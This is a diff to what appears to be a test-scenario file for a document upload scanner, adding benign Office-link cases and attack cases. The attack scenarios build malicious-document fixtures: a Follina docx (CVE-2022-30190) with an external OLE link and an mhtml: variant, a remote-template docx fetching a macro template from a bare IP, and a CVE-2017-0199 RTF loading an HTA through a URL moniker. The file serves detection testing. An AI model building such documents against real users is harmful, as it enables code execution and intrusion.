@@ -1219,6 +1219,41 @@ def h_rtf_documents(ctx: Ctx) -> Traffic:
     )  # fmt: skip
 
 
+DOC_RELS = "word/_rels/document.xml.rels"
+SETTINGS_RELS = "word/_rels/settings.xml.rels"
+
+
+def h_documents_with_links(ctx: Ctx) -> Traffic:
+    """A consultancy's documents and the links Office writes into them: a proposal's hyperlinks, a board
+    report whose chart is linked from the author's workbook on disk and a share, Word's Normal template on
+    disk, a deck's hyperlinks, a letter on the firm's intranet template (an address in its private
+    network), an RTF memo linking its figures from a share, and a contract on the firm's SharePoint
+    template (a web address: a review, as a remote template on an attacker's domain is)."""
+    normal = "file:///C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
+    return uploads(
+        ("proposals/acme-2027.docx", F.office("docx", "Proposal", links=[
+            (DOC_RELS, "hyperlink", "https://www.example.com/terms?lang=en&amp;v=2", True),
+            (DOC_RELS, "hyperlink", "mailto:sales@example.com", True),
+            (DOC_RELS, "image", "media/image1.png", False),
+        ])),
+        ("board/q3-report.docx", F.office("docx", "Board report Q3", links=[
+            (DOC_RELS, "oleObject", "file:///C:\\Users\\ana\\Documents\\Budget%202027.xlsx!Sheet1!R1C1:R9C4", True),
+            (DOC_RELS, "oleObject", "file://fileserver/finance/Forecast.xlsx", True),
+            (SETTINGS_RELS, "attachedTemplate", normal, True),
+        ])),
+        ("decks/kickoff.pptx", F.office("pptx", "Kick-off", links=[
+            ("ppt/slides/_rels/slide1.xml.rels", "hyperlink", "https://intranet.example.com/wiki/Kickoff", True),
+        ])),
+        ("letters/welcome.docx", F.office("docx", "Welcome", links=[
+            (SETTINGS_RELS, "attachedTemplate", "http://10.20.0.15/templates/letter.dotx", True),
+        ])),
+        ("memos/figures.rtf", F.rtf("Figures attached", [("Excel.Sheet.8", F.packaged("Figures.xlsx", b"PK"))], linked=True, update=True)),
+        ("contracts/msa.docx", F.office("docx", "Master services agreement", links=[
+            (SETTINGS_RELS, "attachedTemplate", "https://example.sharepoint.com/sites/legal/Templates/MSA.dotx", True),
+        ])),
+    )  # fmt: skip
+
+
 def h_spanish_customer_list(ctx: Ctx) -> Traffic:
     """A Spanish shop's customer list: 400 mobile numbers written 6xx xxx xxx (a tenth of them pass the
     Luhn check a Canadian SIN carries) beside notes that say "sin" ("without"), and a delivery list whose
@@ -1905,6 +1940,39 @@ def a_rtf_equation_exploit(ctx: Ctx) -> Traffic:
     return uploads(("orders/po-88213.rtf", F.rtf("Purchase order", [("Equation.3", native)], update=True)))
 
 
+def a_follina_link(ctx: Ctx) -> Traffic:
+    """Follina's document (CVE-2022-30190): a .docx whose linked OLE object is an external page ending
+    ``!``, which Word hands to MSHTML as it opens (the page then calls ``ms-msdt:``), and its variant
+    naming the ``mhtml:`` scheme."""
+    return uploads(
+        ("hr/salary-review.docx", F.office("docx", "Salary review 2027", links=[
+            (DOC_RELS, "oleObject", "http://files-cdn.example.net/sr/index.html!", True),
+        ])),
+        ("hr/bonus.docx", F.office("docx", "Bonus letter", links=[
+            (DOC_RELS, "oleObject", "mhtml:http://files-cdn.example.net/b.html!x-usc:http://files-cdn.example.net/b.html", True),
+        ])),
+    )  # fmt: skip
+
+
+def a_remote_template(ctx: Ctx) -> Traffic:
+    """Remote-template injection: a macro-free .docx whose template is fetched, with its macros, from a
+    server's bare address as the document opens."""
+    return uploads(
+        ("invoices/inv-20931.docx", F.office("docx", "Invoice 20931", links=[
+            (SETTINGS_RELS, "attachedTemplate", "http://91.214.124.11/office/invoice.dotm", True),
+        ])),
+    )  # fmt: skip
+
+
+def a_rtf_url_moniker(ctx: Ctx) -> Traffic:
+    """CVE-2017-0199's RTF: a linked object (``OLE2Link``) whose URL moniker loads an HTA page, updated as
+    the document opens (``\\objupdate``), so the page runs without a click."""
+    link = F.ole2link("http://files-cdn.example.net/plugin/update.hta")
+    return uploads(
+        ("orders/po-77120.rtf", F.rtf("Purchase order 77120", [("OLE2Link", link)], linked=True, update=True))
+    )
+
+
 def a_eicar_in_email(ctx: Ctx) -> Traffic:
     """A mail export (.eml) whose attachment, base64-encoded as mail sends it, is a zip holding EICAR."""
     zipped = F.zip_of([("tools/eicar.com", F.EICAR)])
@@ -2491,6 +2559,13 @@ SCENARIOS: list[Scenario] = [
         h_rtf_documents,
     ),
     Scenario(
+        "documents-with-links",
+        H,
+        "standard",
+        "Office documents' hyperlinks, linked workbooks on disk and a share, local and intranet templates",
+        h_documents_with_links,
+    ),
+    Scenario(
         "team-rota-workbooks",
         H,
         "standard",
@@ -2787,6 +2862,31 @@ SCENARIOS: list[Scenario] = [
         "standard",
         "an RTF whose Equation Editor object refreshes itself on opening (\\objupdate)",
         a_rtf_equation_exploit,
+        ("I3",),
+    ),
+    Scenario(
+        "follina-external-ole-link",
+        A,
+        "standard",
+        "a .docx whose linked OLE object is an external page ending '!' (CVE-2022-30190), and its mhtml: form",
+        a_follina_link,
+        ("I3",),
+        fast=True,
+    ),
+    Scenario(
+        "remote-template-injection",
+        A,
+        "standard",
+        "a .docx fetching its macro template from a server's bare address as it opens",
+        a_remote_template,
+        ("I3",),
+    ),
+    Scenario(
+        "rtf-url-moniker-link",
+        A,
+        "standard",
+        "an RTF linked object loading an HTA page through a URL moniker, updated on opening (CVE-2017-0199)",
+        a_rtf_url_moniker,
         ("I3",),
     ),
     Scenario(
